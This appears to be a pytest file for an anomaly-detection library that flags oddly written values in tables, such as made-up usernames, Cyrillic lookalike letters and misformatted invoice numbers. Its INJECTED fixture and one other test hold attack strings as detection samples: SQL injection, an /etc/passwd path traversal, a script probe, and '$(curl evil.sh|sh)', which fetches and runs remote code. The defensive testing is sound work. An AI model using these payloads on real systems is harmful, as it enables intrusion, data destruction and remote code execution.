"""How texts are written: made-up names, commands within values, letters of another script, other forms."""

import datetime as dt
import json
import math
import random
import re
import string
from collections import Counter
from dataclasses import replace
from itertools import pairwise

import numpy as np
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from modes import START, terms_of

from anomembed import Config, fit_model, load_model, scan, score_table
from anomembed.read.roles.assigned import match_roles
from anomembed.read.table import Table
from anomembed.represent.tokens.characters import BEGIN, BYTES, PRIOR, SLACK, STOP, learn_characters
from anomembed.represent.tokens.texts import FEW, MOST_BYTES, buffers
from anomembed.write.checking import DamagedError, check_model
from anomembed.write.models import save_model
from anomembed.write.store import Store

KEY = {"key": ["id"]}
INJECTED = (
    "' OR 1=1--",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "%27%20UNION%20SELECT%20password",
    "$(curl evil.sh|sh)",
    "';DROP TABLE users;--",
)


def name(rng):
    """Make up a name of syllables, as people have."""
    syllables = [rng.choice("bcdfglmnprst") + rng.choice("aeiou") + rng.choice(["", "", "n", "r"]) for _ in range(3)]
    return "".join(syllables)


def gibberish(rng):
    return "".join(rng.choices(string.ascii_lowercase, k=rng.randint(10, 15)))


def table(columns, planted, seed=0, n=3_000):
    """`n` records of `columns`, each a function of a random source; `planted` values replace some of one column."""
    rng = random.Random(seed)
    rows = {column: [draw(rng) for _ in range(n)] for column, draw in columns.items()}
    at = rng.sample(range(n), len(planted[1]))
    for index, value in zip(at, planted[1], strict=True):
        rows[planted[0]][index] = value
    times = sorted(START + dt.timedelta(seconds=rng.randrange(30 * 86400)) for _ in range(n))
    return pl.DataFrame({"id": range(n), "at": times, **rows}), set(at)


def logins(rng_names=0, *, n_odd=6, seed=0, n=3_000):
    """Each of some hundred users logs in a few times, and `n_odd` made-up ones once."""
    rng = random.Random(rng_names)
    users, odd = [name(rng) for _ in range(900)], [gibberish(rng) for _ in range(n_odd)]
    columns = {
        "user": lambda rng: rng.choice(users),
        "action": lambda rng: rng.choice(["login", "view", "edit"]),
        "channel": lambda rng: rng.choice(["web", "app"]),
    }
    return table(columns, ("user", odd), seed, n)


def requests(seed=0, injected=INJECTED):
    """Addresses of which nearly every request has its own; in some, something is injected."""
    columns = {
        "method": lambda rng: rng.choice(["GET"] * 8 + ["POST"]),
        "url": lambda rng: f"/shop/{rng.choice(['item', 'cart'])}?id={rng.randrange(9000)}&q={name(rng)}",
        "status": lambda rng: rng.choice([200] * 20 + [404, 302]),
        "bytes": lambda rng: round(rng.lognormvariate(8, 1)),
        "seconds": lambda rng: round(rng.lognormvariate(-2, 1), 3),
    }
    rng = random.Random(seed)
    return table(columns, ("url", [f"/shop/item?id={rng.randrange(9000)}{text}" for text in injected]), seed)


class Oracle:
    """What texts are like, in plain Python."""

    def __init__(self, texts):
        self.counts, self.follows, self.second = Counter(), Counter(), Counter()
        for text in texts:
            for pair in set(pairwise(_bytes(text))):
                self.counts[pair] += 1
                self.follows[pair[0]] += 1
                self.second[pair[1]] += 1
        each = [self.surprise(pair) for text in texts for pair in pairwise(_bytes(text))]
        self.usual = sum(each) / len(each) + SLACK

    def surprise(self, pair):
        share = (self.second[pair[1]] + 0.5) / (self.second.total() + 0.5 * BYTES)
        others = max(self.counts[pair] - 1, 0) + PRIOR * share
        return -math.log(others / (max(self.follows[pair[0]] - 1, 0) + PRIOR))

    def excess(self, text):
        """Return the largest sum of any part."""
        beyond = [self.surprise(pair) - self.usual for pair in pairwise(_bytes(text))]
        parts = [sum(beyond[low:high]) for low in range(len(beyond)) for high in range(low, len(beyond) + 1)]
        return max(parts) if text else 0.0


def _bytes(text):
    inner = [ord("0") if 48 <= byte <= 57 else byte for byte in text.encode()[:MOST_BYTES]]
    return [BEGIN, *inner, STOP]


@settings(max_examples=25, deadline=None)
@given(st.integers(0, 10_000), st.lists(st.text("abé0-:", max_size=8), max_size=5))
def test_the_excess_is_that_of_the_worst_part(seed, others):
    rng = random.Random(seed)
    texts = sorted({name(rng) + rng.choice(["", "-01", "é"]) for _ in range(150)} | {text for text in others if text})
    characters = learn_characters(pl.Series(texts))
    wanted = [*others, "zzqx", "a'b", texts[0]]
    found = characters.excess(pl.Series(wanted, dtype=pl.String))
    oracle = Oracle(texts)
    np.testing.assert_allclose(found, [oracle.excess(text) for text in wanted], rtol=1e-4, atol=1e-4)
    assert (np.diff(characters.known) >= 0).all()
    assert len(characters.known) == len(texts)


def test_a_missing_text_has_no_excess_and_of_a_long_one_the_begin_counts():
    rng = random.Random(0)
    characters = learn_characters(pl.Series(sorted({name(rng) for _ in range(500)})))
    long = "barone" * MOST_BYTES
    found = characters.excess(pl.Series([None, "", long, long + "''''", "''''" + long]))
    assert found[0] == found[1] == 0 < found[2] == found[3] < found[4]
    assert learn_characters(pl.Series(["a", "b"])) is None


def test_a_part_is_of_whole_words():
    rng = random.Random(0)
    characters = learn_characters(pl.Series(sorted({name(rng) for _ in range(500)})))
    assert characters.part("banоlo") == "banоlo"  # noqa: RUF001  # one letter is Cyrillic
    assert characters.part("barone%27; DROP TABLE x") in ("barone%27; DROP TABLE x", "%27; DROP TABLE x")
    assert characters.part("é" * 50 + "''") in ("é" * 50 + "''", "é" * 50)
    assert characters.part("") == ""


@pytest.mark.parametrize("seed", range(3))
def test_made_up_users_come_first(seed):
    frame, odd = logins(seed, seed=seed)
    flags = scan(frame, config={"roles": KEY, "flags": {"budget": 6}}).flags.frame
    assert len(set(flags["id"]) & odd) >= 5
    assert flags["reason"].str.contains(r"^user=\w+ is not written as others: '\w+' \(\d of \d+ have").sum() >= 5


def test_the_figures_of_a_reason_are_those_of_the_texts():
    frame, _ = logins(4)
    oracle = Oracle(frame["user"].unique().to_list())
    known = {user: oracle.excess(user) for user in frame["user"].unique()}
    flags = scan(frame, config={"roles": KEY, "flags": {"budget": 20}}).flags.frame
    said = r"user=(\w+) is not written as others: '(\w+)' \((\d+) of (\d+) have a part as unusual\)"
    found = [match.groups() for reason in flags["reason"] if (match := re.fullmatch(said, reason))]
    assert len(found) >= 5
    for user, part, times, of in found:
        assert part in user
        assert (int(times), int(of)) == (sum(excess >= known[user] - 1e-4 for excess in known.values()), len(known))


@pytest.mark.parametrize("seed", range(2))
@pytest.mark.parametrize("clean", [False, True])
def test_what_is_injected_comes_first_though_every_request_has_an_address_of_its_own(seed, clean):
    frame, odd = requests(seed)
    config = Config(roles=KEY, flags={"budget": 6}, reference={"clean": clean})
    assert "identifier" in [column.role for column in fit_model(frame, config=config).roles.columns]
    if clean:
        model = fit_model(frame.filter(~pl.col("id").is_in(odd)), config=config)
        flags = score_table(model, frame).flags.frame
    else:
        flags = scan(frame, config=config).flags.frame
    assert set(flags["id"]) == odd
    parts = flags["reason"].str.extract(r"not written as others: '(.*)' \(\d").to_list()
    assert all(any(text[2:] in part for text in INJECTED) for part in parts), parts


def test_one_letter_of_another_script_comes_first():
    rng = random.Random(1)
    vendors = [f"{name(rng).title()} {name(rng).title()} {rng.choice(['Ltd', 'GmbH'])}" for _ in range(500)]
    copied = vendors[3].replace("a", "а").replace("o", "о")  # noqa: RUF001  # Cyrillic letters
    assert copied != vendors[3]
    columns = {
        "vendor": lambda rng: rng.choice(vendors),
        "city": lambda rng: rng.choice(["Bern", "Basel", "Genf"]),
        "amount": lambda rng: round(rng.lognormvariate(5, 1), 2),
    }
    frame, odd = table(columns, ("vendor", [copied]))
    flags = scan(frame, config={"roles": KEY, "flags": {"budget": 1}}).flags.frame
    assert set(flags["id"]) == odd


def test_identifiers_of_another_form_come_first():
    columns = {
        "invoice": lambda rng: f"INV-{rng.randrange(2020, 2027)}-{rng.randrange(10**6):06}",
        "country": lambda rng: rng.choice(["DE", "FR", "NL"]),
        "amount": lambda rng: round(rng.lognormvariate(5, 1), 2),
    }
    frame, odd = table(columns, ("invoice", ["2024/INV/77", "INV_2025_123", "inv-2023-000412"]))
    flags = scan(frame, config={"roles": KEY, "flags": {"budget": 3}}).flags.frame
    assert set(flags["id"]) == odd


@pytest.mark.parametrize("seed", range(5))
def test_where_nobody_is_made_up_hardly_any_text_is_unusual(seed):
    for frame in (logins(seed, n_odd=0, seed=seed)[0], requests(seed, ())[0]):
        terms = np.array(list(terms_of(frame, "characters", Config(roles=KEY)).values()))
        assert np.count_nonzero(terms > 0.5) <= 3


def _batch(model, frame):
    with Table(frame) as later:
        roles = match_roles(model.roles, later)
        select = roles.select() | model.derive(later, roles)
        return model.make_batch(pl.concat(list(later.batches(select, [], None, 500))))


def test_new_names_are_written_as_the_known_ones():
    """Half of the names were never seen, and are as usual as the others."""
    frame, _ = logins(1, n_odd=0, n=4_000)
    model = fit_model(frame[:2_000], config=Config(roles=KEY, reference={"clean": True}))
    judged = next(judged for judged in model.views if judged.view.name == "characters")
    rng = random.Random(2)
    new, made_up = ([draw(rng) for _ in range(2_000)] for draw in (name, gibberish))
    terms = []
    for users in (new, made_up):
        later = frame[2_000:].with_columns(user=pl.Series(users))
        terms.append(judged.term(judged.raw(_batch(model, later))))
    assert np.count_nonzero(terms[0]) <= 20
    assert np.count_nonzero(terms[1]) >= 1_500


def test_what_many_records_have_is_usual_however_it_is_written():
    frame, odd = logins(0, n_odd=1)
    user = frame.filter(pl.col("id").is_in(odd))["user"][0]
    often = frame.with_columns(user=pl.when(pl.col("id") % 20 == 0).then(pl.lit(user)).otherwise("user"))
    assert max(terms_of(frame, "characters", Config(roles=KEY)).values()) > 1
    assert not any(terms_of(often, "characters", Config(roles=KEY)).values())


def test_in_few_texts_nothing_is_unusual():
    frame, _ = logins(0)
    few = frame.with_columns(user=pl.col("id").mod(40).cast(pl.String) + "@example.com")
    assert "characters" not in [judged.view.name for judged in fit_model(few, config=Config(roles=KEY)).views]


def test_a_missing_identifier_is_told():
    frame, _ = requests(0, ())
    frame = frame.with_columns(url=pl.when(pl.col("id") != 1234).then("url"))
    flags = scan(frame, config={"roles": KEY, "flags": {"budget": 20}}).flags.frame
    assert flags.filter(pl.col("id") == 1234)["reason"].str.starts_with("url=(missing) is rare").to_list() == [True]


def test_a_model_is_kept_and_a_user_decides_and_explain_names_the_part(run, tmp_path):
    frame, odd = requests(3)
    frame.write_parquet(tmp_path / "requests.parquet")
    said = run("scan", "requests.parquet", "--budget", "6").out
    assert "is not written as others" in said
    assert "6 flags have this reason" in said  # what somebody tries out is one finding
    told = json.loads(run("explain", str(min(odd)), "--format", "json").out)
    assert told["views"][0]["view"] == "characters"
    assert run("explain", str(min(odd))).code == 0
    left_out = run("scan", "requests.parquet", "--budget", "6", "--ignore", "url", "--format", "json", "--quiet")
    assert "written" not in left_out.out
    model = fit_model(frame, config=Config(roles=KEY))
    with Store(tmp_path / "model.duckdb") as store, store.transaction():
        save_model(model, store)
    again = load_model(tmp_path / "model.duckdb")
    expected, found = (score_table(each, frame).frame["raw_score"].to_list() for each in (model, again))
    assert found == expected


def test_where_a_dozen_are_made_up_they_do_not_hide_one_another():
    frame, odd = logins(5, n_odd=12)
    flags = scan(frame, config={"roles": KEY, "flags": {"budget": 12}}).flags.frame
    assert len(set(flags["id"]) & odd) >= 8


def test_a_line_that_comes_often_is_usual_however_few_others_are_written_so():
    """Each order has a message of its own; the same three of a timer are a tenth of all lines."""
    rng = random.Random(0)
    timer = ["(root) CMD (/usr/bin/backup --daily)", "(root) CMD (/usr/bin/rotate -f)", "(root) CMD (/opt/sync)"]
    lines = [
        rng.choice(timer) if rng.random() < 0.1 else f"order of {name(rng)} and {name(rng)} is paid in full"
        for _ in range(2_000)
    ]
    frame = pl.DataFrame({"id": range(2_000), "host": ["a", "b"] * 1_000, "message": lines})
    terms = terms_of(frame, "characters", Config(roles=KEY | {"text": ["message"]}))
    assert not any(term for term, line in zip(terms.values(), lines, strict=True) if line in timer)


def test_another_value_is_written_as_others_are(run):
    """Without that, no other domain would make the record normal."""
    frame, odd = logins(0, n_odd=1)
    frame.rename({"user": "domain"}).write_parquet("logins.parquet")
    assert run("scan", "logins.parquet", "--budget", "1", "--quiet").code == 0
    change = json.loads(run("explain", str(*odd), "--format", "json").out)["change"]
    assert change["columns"] == ["domain"]
    assert change["tail_probability"] > 0.01


def test_pairs_of_characters_that_are_none_are_refused():
    model = fit_model(logins(0)[0], config=Config(roles=KEY))
    check_model(model)
    columns = tuple(
        replace(column, characters=replace(column.characters, codes=column.characters.codes + BYTES * BYTES))
        if column.characters
        else column
        for column in model.vocabulary.columns
    )
    with pytest.raises(DamagedError, match="no token"):
        check_model(replace(model, vocabulary=replace(model.vocabulary, columns=columns)))


@pytest.mark.parametrize("texts", [[], [None, None], ["", "é", None, "💶1"], ["a"] * 3])
def test_bytes_of_few_and_of_many_texts_are_the_same(texts):
    data, offsets = buffers(pl.Series(texts, dtype=pl.String))
    padded, more = buffers(pl.Series([*texts, *["z"] * (FEW + 1)], dtype=pl.String))
    assert data.tobytes() + b"z" * (FEW + 1) == padded.tobytes()
    assert offsets.tolist() == more[: len(offsets)].tolist()
    for found, expected in ((data, padded), (offsets, more)):  # or loops would be compiled for each
        assert (found.dtype, found.flags.writeable, found.flags.c_contiguous) == (
            expected.dtype,
            expected.flags.writeable,
            expected.flags.c_contiguous,
        )
